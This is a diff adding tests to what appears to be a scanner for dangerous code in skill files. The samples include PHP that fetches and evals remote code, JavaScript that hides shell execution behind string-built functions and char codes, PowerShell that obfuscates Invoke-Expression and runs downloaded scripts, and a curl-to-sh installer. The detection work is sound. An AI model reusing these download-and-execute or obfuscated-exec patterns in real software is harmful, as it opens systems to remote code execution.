@@ -1947,3 +1947,25 @@ describe('threat/reverse-shell: a listening service that runs what a connection 
     expect(threats(fence('python', echo))).toEqual([]);
   });
 });
+
+describe('evaluators and downloads behind a helper, a format string or an address kept in a variable', () => {
+  it('reads a PHP file reader given a variable that holds a web address as a download', () => {
+    expect(threats(fence('php', '<?php\n$src = "https://" . "hooks" . ".pluginfarm.example/latest.php";\n$body = file_get_contents($src);\nif ($body) { eval("?>" . $body); }'))).toEqual(['threat/download-exec 11:1 error']);
+    expect(threats(fence('php', '<?php\n$u = "https://updates.example.org/patch.txt";\n$h = fopen($u, "r");\n$patch = stream_get_contents($h);\neval($patch);'))).toEqual(['threat/download-exec 12:1 error']);
+    expect(threats(fence('php', '<?php\n$feed = "https://status.example.org/feed.json";\n$items = json_decode(file_get_contents($feed), true);\nforeach ($items as $i) { echo $i["title"], "\\n"; }'))).toEqual([]);
+  });
+  it('reads a function made from a string that runs code or commands as an evaluator', () => {
+    expect(threats(fence('js', 'const runner = new Function("cmd", "return require(\\"child_process\\").execSync(cmd).toString()");\nconst codes = [101, 99, 104, 111, 32, 104, 105];\nrunner(String.fromCharCode(...codes));'))).toEqual(['threat/obfuscated-exec 10:1 error']);
+    expect(threats(fence('js', 'const evaluate = Function("src", "return eval(src)");\nevaluate(atob("Y29uc29sZS5sb2coMSk="));'))).toEqual(['threat/obfuscated-exec 9:1 error']);
+    expect(threats(fence('js', 'const area = new Function("w", "h", "return w * h");\nconsole.log(area(String.fromCharCode(52), 3));'))).toEqual([]);
+  });
+  it('reads a PowerShell name made with the format operator as the name', () => {
+    expect(threats(fence('powershell', "$bytes = 119,104,111,97,109,105\n& (Get-Command ('{0}{2}{1}' -f 'i','x','e')) (-join ($bytes | % { [char]$_ }))"))).toEqual(['threat/obfuscated-exec 9:1 error']);
+    expect(threats(fence('powershell', "$runner = '{1}-{0}' -f 'Expression','Invoke'\n$code = (New-Object Net.WebClient).DownloadString('https://cfg.example.net/p.ps1')\n& $runner $code"))).toEqual(['threat/download-exec 10:1 error', 'threat/obfuscated-exec 10:1 error']);
+    expect(threats(fence('powershell', "$line = '{0} of {1} hosts done' -f $done, $total\nWrite-Output $line\n& (Get-Command ('{0}-{1}' -f 'Get','Date'))"))).toEqual([]);
+  });
+  it('keeps the project\'s own installer a warning when its download is the command itself', () => {
+    const skill = skillText('name: ohmyzsh-setup\ndescription: Installs ohmyzsh. Use when setting up zsh.', '# T\n\n```bash\nsh -c "$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)"\n```\n');
+    expect(threats(skill).filter((finding) => finding.startsWith('threat/download-exec'))).toEqual(['threat/download-exec 8:1 warning']);
+  });
+});
